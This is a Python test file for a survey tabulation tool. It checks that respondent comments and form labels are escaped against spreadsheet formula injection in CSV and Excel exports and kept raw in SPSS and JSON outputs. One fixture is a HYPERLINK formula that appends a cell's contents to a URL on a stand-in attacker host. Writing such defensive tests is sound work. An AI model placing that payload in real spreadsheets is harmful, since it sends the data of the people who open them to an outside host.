"""Text respondents and staff wrote never runs as a formula in data.csv or report.xlsx,
and stays raw in data.sav and tables.json."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyreadstat
from openpyxl import load_workbook

from teichaku.instrument import load_xlsform
from teichaku.report import write_xlsx_report
from teichaku.report.data_export import write_data_csv, write_data_sav
from teichaku.responses import responses_from_records
from teichaku.tabulate import tabulate_survey
from teichaku.tabulate.tables_json import write_tables_json

FORM = """\
| survey |
| | type | name | label |
| | select_one yn | yn | =1+1 |
| | integer | n | 人数 |
| | text | comment | @意見 |
| choices |
| | list_name | name | label |
| | yn | y | +はい |
| | yn | n | いいえ |
"""
COMMENT = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'


def _table(tmp_path: Path):  # type: ignore[no-untyped-def]
    path = tmp_path / "form.md"
    path.write_text(FORM, encoding="utf-8")
    form = load_xlsform(path)
    records = [
        {"yn": "y", "n": -3, "comment": COMMENT},
        {"yn": "n", "n": 4, "comment": "-ふつう"},
        {"yn": "y", "n": 5, "comment": "'引用"},
    ]
    return responses_from_records(form, records)


def test_data_csv_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    path = tmp_path / "data.csv"
    write_data_csv(_table(tmp_path), path)
    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert [row["comment"] for row in rows] == ["'" + COMMENT, "'-ふつう", "''引用"]
    assert [float(row["n"]) for row in rows] == [-3, 4, 5]  # numbers: not escaped


def test_data_sav_and_tables_json_keep_the_raw_text(tmp_path: Path) -> None:
    table = _table(tmp_path)
    write_data_sav(table, tmp_path / "data.sav")
    frame, _meta = pyreadstat.read_sav(str(tmp_path / "data.sav"))
    assert list(frame["comment"]) == [COMMENT, "-ふつう", "'引用"]
    write_tables_json(tabulate_survey(table), tmp_path / "tables.json")
    text = (tmp_path / "tables.json").read_text(encoding="utf-8")
    assert json.dumps("=1+1") in text and json.dumps("+はい", ensure_ascii=False) in text


def test_report_xlsx_stores_labels_as_strings(tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    write_xlsx_report(tabulate_survey(_table(tmp_path)), path)
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert {"=1+1", "+はい", "@意見"} <= {cell.value for cell in cells if cell.data_type == "s"}
